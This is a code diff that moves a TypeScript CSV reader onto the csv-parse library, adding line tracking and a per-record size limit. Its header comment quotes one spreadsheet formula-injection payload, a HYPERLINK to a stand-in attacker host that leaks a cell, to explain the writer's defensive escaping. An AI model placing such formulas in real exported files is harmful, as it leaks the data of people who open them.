@@ -1,15 +1,19 @@
 /**
  * CSV as RFC 4180 writes it: fields separated by commas, records by CRLF or LF, a field that holds a comma,
- * a quote or a line break is quoted and its quotes doubled. The reader is incremental (chunks in, records
- * out) so a large file is never held whole, and it stops collecting a record past a size limit, so one
- * enormous line costs no more memory than the limit.
+ * a quote or a line break is quoted and its quotes doubled. Reading is csv-parse's, fed chunk by chunk, so a
+ * large file is never held whole; this module adds what an import needs of it: the line each record starts
+ * on, and a size limit that refuses one huge record and still reads the records after it.
  *
  * CSV files are opened in spreadsheets, which run a cell starting with = + - @ (or a tab or carriage
  * return before one) as a formula: `=HYPERLINK("https://evil.example/?"&B2,"More info")` in a description
  * would leak the sheet when clicked. So the writer escapes such cells as OWASP advises, with a leading `'`
  * (a spreadsheet then shows the text), and also every cell that starts with `'` itself; the reader gives
  * cells as written, and unescapeFormula takes exactly one leading `'` off. Every value reads back exactly.
+ * (csv-stringify's escape_formulas leaves a leading `'` alone, which breaks that round trip, and its writer
+ * measured 2.5 times slower than csvLine: docs/decisions/014.)
  */
+import { Readable, pipeline } from 'node:stream';
+import { CsvError, parse, type Info, type InfoRecord, type Options } from 'csv-parse';
 
 export interface CsvRecord {
   /** The line the record starts on, from 1. */
@@ -29,147 +33,163 @@ export class CsvSyntaxError extends Error {
   }
 }
 
-const QUOTE = 34;
-const COMMA = 44;
-const LF = 10;
-const CR = 13;
+/**
+ * A record that csv-parse stops collecting (and so the whole file is refused): every line longer than the limit
+ * is cut first (LongLineCutter), so only a quoted cell spread over many lines gets there, or a huge line that
+ * is mostly quotes (a cut keeps every quote). In bytes, and four times the limit in characters, so no record
+ * within the limit can reach it.
+ */
+const BYTES_PER_CHAR = 4;
 
-export class CsvReader {
-  readonly #maxRecordChars: number;
-  #records: CsvRecord[] = [];
-  #fields: string[] = [];
-  #field = '';
-  /** Something (text or an opening quote) was read for the current field, even if it was not kept. */
-  #fieldStarted = false;
-  #recordChars = 0;
-  #oversized = false;
-  #quoted = false;
-  /** Inside a quoted field, the last character seen was a quote: either its end or the first of a "" pair. */
-  #quotePending = false;
-  /** The previous chunk ended in CR: an LF starting the next one belongs to the same line break. */
-  #afterCr = false;
-  #line = 1;
-  #recordLine = 1;
-  #started = false;
-
-  constructor(options: { maxRecordChars?: number } = {}) {
-    this.#maxRecordChars = options.maxRecordChars ?? 1 << 20;
-  }
-
-  /** Feeds a chunk; returns the records it completed. */
-  push(chunk: string): CsvRecord[] {
-    let text = chunk;
-    if (!this.#started && text.length > 0) {
-      this.#started = true;
-      if (text.charCodeAt(0) === 0xfeff) text = text.slice(1);
-    }
-    let i = 0;
-    if (this.#afterCr && text.charCodeAt(0) === LF) i = 1;
-    this.#afterCr = false;
-    const n = text.length;
-    while (i < n) {
-      if (this.#quoted) {
-        if (this.#quotePending) {
-          this.#quotePending = false;
-          if (text.charCodeAt(i) === QUOTE) {
-            this.#append('"');
-            i++;
-            continue;
-          }
-          this.#quoted = false;
-          continue;
-        }
-        const close = text.indexOf('"', i);
-        const end = close < 0 ? n : close;
-        this.#append(text.slice(i, end));
-        this.#line += countLineBreaks(text, i, end);
-        if (close < 0) break;
-        this.#quotePending = true;
-        i = close + 1;
-        continue;
-      }
-      const c = text.charCodeAt(i);
-      if (c === COMMA) {
-        this.#endField();
-        i++;
-      } else if (c === LF || c === CR) {
-        this.#endRecord();
-        this.#line++;
-        i++;
-        if (c === CR) {
-          if (i === n) this.#afterCr = true;
-          else if (text.charCodeAt(i) === LF) i++;
-        }
-        this.#recordLine = this.#line;
-      } else if (c === QUOTE && !this.#fieldStarted) {
-        this.#quoted = true;
-        this.#fieldStarted = true;
-        i++;
-      } else {
-        // An unquoted run up to the next separator; a stray quote inside it is kept as text.
-        let j = i + 1;
-        while (j < n) {
-          const d = text.charCodeAt(j);
-          if (d === COMMA || d === LF || d === CR) break;
-          j++;
-        }
-        this.#append(text.slice(i, j));
-        i = j;
-      }
-    }
-    return this.#take();
-  }
-
-  /** Ends the input; returns the last record, or throws when a quoted field was never closed. */
-  end(): CsvRecord[] {
-    if (this.#quoted && !this.#quotePending) throw new CsvSyntaxError(this.#recordLine, 'a quoted field is not closed before the end of the file');
-    this.#quoted = false;
-    this.#quotePending = false;
-    if (this.#fieldStarted || this.#fields.length > 0 || this.#oversized) this.#endRecord();
-    return this.#take();
-  }
-
-  #append(text: string): void {
-    this.#fieldStarted = true;
-    if (this.#oversized) return;
-    this.#recordChars += text.length;
-    if (this.#recordChars > this.#maxRecordChars) {
-      this.#oversized = true;
-      this.#fields = [];
-      this.#field = '';
-      return;
-    }
-    this.#field += text;
-  }
-
-  #endField(): void {
-    if (!this.#oversized) this.#fields.push(this.#field);
-    this.#field = '';
-    this.#fieldStarted = false;
-    this.#quoted = false;
-  }
-
-  #endRecord(): void {
-    this.#endField();
-    const blank = this.#fields.length === 1 && this.#fields[0] === '';
-    if (this.#oversized) this.#records.push({ line: this.#recordLine, fields: [], oversized: true });
-    else if (!blank) this.#records.push({ line: this.#recordLine, fields: this.#fields });
-    this.#fields = [];
-    this.#recordChars = 0;
-    this.#oversized = false;
-  }
-
-  #take(): CsvRecord[] {
-    const done = this.#records;
-    this.#records = [];
-    return done;
+/** Every record of the CSV text, with the line it starts on; blank lines are skipped. */
+export async function* readCsvRecords(input: AsyncIterable<string> | Iterable<string>, options: { maxRecordChars?: number } = {}): AsyncGenerator<CsvRecord> {
+  const limit = options.maxRecordChars ?? 1 << 20;
+  const cutter = new LongLineCutter(limit);
+  const lines = new LineCounter();
+  const parsing: Options<CsvRecord, string[]> = {
+    bom: true,
+    record_delimiter: ['\r\n', '\n', '\r'],
+    relax_column_count: true,
+    relax_quotes: true,
+    skip_empty_lines: true,
+    max_record_size: BYTES_PER_CHAR * limit,
+    // Called as each record ends, before csv-parse reads on: the line count is current when an error comes.
+    on_record: (fields: string[], info: InfoRecord): CsvRecord | null => {
+      const line = lines.startOf(fields, info);
+      const cut = cutter.cutBefore(info.bytes);
+      if (fields.length === 1 && fields[0] === '') return null;
+      if (cut || fields.reduce((chars, field) => chars + field.length, 0) > limit) return { line, fields: [], oversized: true };
+      return { line, fields };
+    },
+  };
+  // (csv-parse's types let on_record change a record's shape only along with `columns`.)
+  const parser = parse(parsing as unknown as Options);
+  // A failure to read the input reaches the loop below as the parser's error.
+  pipeline(Readable.from(cutter.cut(input)), parser, () => {});
+  try {
+    yield* parser as AsyncIterable<CsvRecord>;
+  } catch (error) {
+    if (!(error instanceof CsvError)) throw error;
+    const line = lines.next(error as unknown as Partial<Info>);
+    if (error.code === 'CSV_QUOTE_NOT_CLOSED') throw new CsvSyntaxError(line, 'a quoted field is not closed before the end of the file');
+    if (error.code === 'CSV_MAX_RECORD_SIZE') throw new CsvSyntaxError(line, `a record runs on for more than ${(BYTES_PER_CHAR * limit) / (1 << 20)} MB over several lines (a quote left open?)`);
+    throw new CsvSyntaxError(line, error.message);
   }
 }
 
-function countLineBreaks(text: string, from: number, to: number): number {
+/**
+ * The line a record starts on, from csv-parse's count of the lines read when it ends. That count takes every
+ * CR and every LF inside a quoted field for a line (a CRLF for two), where a line is a LF there: so the CRs
+ * inside fields are taken off, and the line breaks inside the record.
+ */
+class LineCounter {
+  #crs = 0;
+  /** Where the last record ended: its last line, and csv-parse's count of empty lines so far. */
+  #lastLine = 0;
+  #emptyLines = 0;
+
+  startOf(fields: readonly string[], info: Info): number {
+    let lfs = 0;
+    for (const field of fields) {
+      lfs += countOf(field, '\n');
+      this.#crs += countOf(field, '\r');
+    }
+    this.#lastLine = info.lines - this.#crs;
+    this.#emptyLines = info.empty_lines;
+    return this.#lastLine - lfs;
+  }
+
+  /** The line the record after the last one starts on (csv-parse's errors carry its counts as they stood). */
+  next(info: Partial<Info>): number {
+    return this.#lastLine + 1 + Math.max(0, (info.empty_lines ?? this.#emptyLines) - this.#emptyLines);
+  }
+}
+
+function countOf(text: string, char: string): number {
   let count = 0;
-  for (let i = text.indexOf('\n', from); i >= 0 && i < to; i = text.indexOf('\n', i + 1)) count++;
+  for (let i = text.indexOf(char); i >= 0; i = text.indexOf(char, i + 1)) count++;
   return count;
+}
+
+/**
+ * Passes the text on, except the part of a line past `limit` characters: there every run of characters other
+ * than a quote, CR or LF is cut to its first and last character. csv-parse then collects little of that line,
+ * yet meets every quote, field start and line end as before (what it decides depends only on those and on
+ * whether a field is empty), so it finds the same records after it. Where each cut began, in bytes of the
+ * text passed on (as csv-parse counts), tells which record it fell in.
+ */
+class LongLineCutter {
+  readonly #limit: number;
+  /** Characters of the current line so far. */
+  #lineChars = 0;
+  #bytes = 0;
+  readonly #cuts: number[] = [];
+
+  constructor(limit: number) {
+    this.#limit = limit;
+  }
+
+  async *cut(input: AsyncIterable<string> | Iterable<string>): AsyncGenerator<string> {
+    for await (const chunk of input) {
+      const text = this.#cutChunk(chunk);
+      this.#bytes += Buffer.byteLength(text);
+      yield text;
+    }
+  }
+
+  /** Whether a cut began before byte `end` (and after the record before): each cut is reported once. */
+  cutBefore(end: number): boolean {
+    let cut = false;
+    while (this.#cuts.length > 0 && this.#cuts[0]! < end) {
+      this.#cuts.shift();
+      cut = true;
+    }
+    return cut;
+  }
+
+  #cutChunk(chunk: string): string {
+    if (!this.#reachesLimit(chunk)) return chunk;
+    let text = '';
+    let from = 0;
+    for (;;) {
+      const lineBreak = nextLineBreak(chunk, from);
+      const end = lineBreak < 0 ? chunk.length : lineBreak;
+      const room = Math.max(0, this.#limit - this.#lineChars);
+      if (end - from > room) {
+        if (this.#lineChars <= this.#limit) this.#cuts.push(this.#bytes + Buffer.byteLength(text) + Buffer.byteLength(chunk.slice(from, from + room)));
+        text += chunk.slice(from, from + room) + chunk.slice(from + room, end).replace(ORDINARY_RUN, (run) => (run.length > 2 ? run[0]! + run.at(-1)! : run));
+      } else text += chunk.slice(from, end);
+      this.#lineChars += end - from;
+      if (lineBreak < 0) return text;
+      text += chunk[end];
+      this.#lineChars = 0;
+      from = end + 1;
+    }
+  }
+
+  /** Whether some line reaches past the limit within this chunk (the common case is a quick no). */
+  #reachesLimit(chunk: string): boolean {
+    let lineChars = this.#lineChars;
+    let from = 0;
+    for (let i = nextLineBreak(chunk, 0); ; i = nextLineBreak(chunk, from)) {
+      const end = i < 0 ? chunk.length : i;
+      if (lineChars + (end - from) > this.#limit) return true;
+      if (i < 0) {
+        this.#lineChars = lineChars + (end - from);
+        return false;
+      }
+      lineChars = 0;
+      from = i + 1;
+    }
+  }
+}
+
+const LINE_BREAK = /[\r\n]/g;
+const ORDINARY_RUN = /[^"\r\n]+/g;
+
+function nextLineBreak(text: string, from: number): number {
+  LINE_BREAK.lastIndex = from;
+  return LINE_BREAK.exec(text)?.index ?? -1;
 }
 
 /** One CSV line (with its LF): every field escaped from formulas, and quoted only when it needs it. */
